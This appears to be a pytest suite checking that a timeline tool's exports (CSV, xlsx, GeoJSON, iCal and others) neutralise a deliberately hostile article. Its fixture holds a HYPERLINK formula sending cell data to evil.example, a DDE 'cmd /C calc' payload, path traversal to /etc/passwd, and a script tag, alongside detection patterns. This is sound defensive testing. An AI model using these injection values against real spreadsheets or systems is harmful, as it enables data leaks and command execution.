"""An article that is made to do harm, exported in every format: nothing leaves its file, and nothing in it runs."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path, PurePosixPath

import pytest

from tests.cli.conftest import Run
from tests.cli.conftest import run as run  # noqa: PLC0414  # a fixture
from timeline.export.formats import EXCEL, FORMATS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ARTICLE = {
    "id": "../../../../tmp/evil",
    "published": "2023-05-10T20:15:00+03:00",
    "title": f"\u200f{FORMULA}",
    "outlet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "file:///../../etc/passwd",
    "text": "=1+1;@SUM(A1)\n-2+3 أسفر قصف على غزة الثلاثاء عن مقتل 21 شخصاً، بحسب «=cmd|' /C calc'!A1»؛ <script>alert(1)</script>",
}
# What a spreadsheet takes for a formula, after what it does not see.
RUNS = re.compile("^[\\s\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]*[=+@\uff1d\uff0b\uff20-]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def folder(run: Run, tmp_path: Path) -> Path:
    """A folder with the database of the article, and an empty folder to export into."""
    assert run("ingest", "-", stdin=json.dumps(ARTICLE).encode()).status == 0
    (tmp_path / "out").mkdir()
    return tmp_path


def exported(run: Run, folder: Path, form: str, *options: str) -> Path:
    path = folder / "out" / f"rows{FORMATS[form].suffix}"
    outcome = run("export", "--format", form, "--output", str(path), *options)
    assert outcome.status == 0, outcome.err
    return path


@pytest.mark.parametrize("form", FORMATS)
def test_only_the_file_that_was_named_is_written(form: str, run: Run, folder: Path) -> None:
    before = {path for path in folder.rglob("*") if path.parent == folder}
    path = exported(run, folder, form)
    assert {file.name for file in (folder / "out").iterdir()} <= {path.name, f"{path.name}.meta.json"}
    assert {file for file in folder.rglob("*") if file.parent == folder} == before


@pytest.mark.parametrize("form", ["xlsx", "datapackage"])
def test_members_of_an_archive_stay_in_it(form: str, run: Run, folder: Path) -> None:
    names = zipfile.ZipFile(exported(run, folder, form)).namelist()
    assert len(names) == len(set(names)) > 3
    for name in map(PurePosixPath, names):
        assert not name.is_absolute()
        assert ".." not in name.parts
        assert not re.search(r"[\\:\0]", str(name))
    if form == "datapackage":
        assert sorted(names) == ["datapackage.json", "documents.csv", "events.csv", "figures.csv"]


@pytest.mark.parametrize("form", sorted(EXCEL))
def test_no_cell_of_a_csv_for_spreadsheets_runs(form: str, run: Run, folder: Path) -> None:
    text = exported(run, folder, form, "--excel").read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1
    for cell in (cell for row in rows[1:] for cell in row):  # of HXL the second line has tags, such as #event
        for part in re.split(r"[;\t\n]", cell):  # where a spreadsheet may begin a cell
            assert not RUNS.match(part) or NUMBER.fullmatch(part)


def test_no_cell_of_a_workbook_runs(run: Run, folder: Path) -> None:
    archive = zipfile.ZipFile(exported(run, folder, "xlsx"))
    for name in archive.namelist():
        content = archive.read(name).decode()
        assert not re.search(
            r"<f[ >/]|<hyperlink|<ddeLink|<externalLink|TargetMode=\"External\"|vbaProject", content
        ), name
    assert any("HYPERLINK" in archive.read(name).decode() for name in archive.namelist())


@pytest.mark.parametrize("form", ["timelinejs", "geojson", "ical"])
def test_no_markup_where_others_would_show_it(form: str, run: Run, folder: Path) -> None:
    text = exported(run, folder, form).read_text("utf-8")
    assert "<script" not in text or form != "timelinejs"  # which shows HTML; the others are text to their readers
    assert "javascript:" not in text
    assert not re.search(r"^(ATTACH|URL|IMAGE)[^\n]*file:", text, re.MULTILINE)


@pytest.mark.parametrize(
    "name", ["../outside.csv", "/nowhere/at/all.csv", "missing/rows.csv", "out", "a\x00b.csv", "x" * 300]
)
def test_a_file_name_goes_where_it_says_or_is_refused(name: str, run: Run, folder: Path) -> None:
    outcome = run("export", "--output", name)
    assert outcome.err.count("\n") == 1 + (outcome.status == 0 and "changed" in outcome.err)
    if name == "../outside.csv":
        assert (folder.parent / "outside.csv").exists()  # it is the user who names it
        (folder.parent / "outside.csv").unlink()
        (folder.parent / "outside.csv.meta.json").unlink(missing_ok=True)
    else:
        assert outcome.status == 1


def test_a_link_in_place_of_the_unfinished_file_is_not_followed(run: Run, folder: Path) -> None:
    """In a folder where others may write: the file that it leads to stays as it is."""
    precious = folder / "precious"
    precious.write_text("kept")
    (folder / "out" / ".rows.csv.part").symlink_to(precious)
    exported(run, folder, "csv")
    assert precious.read_text() == "kept"
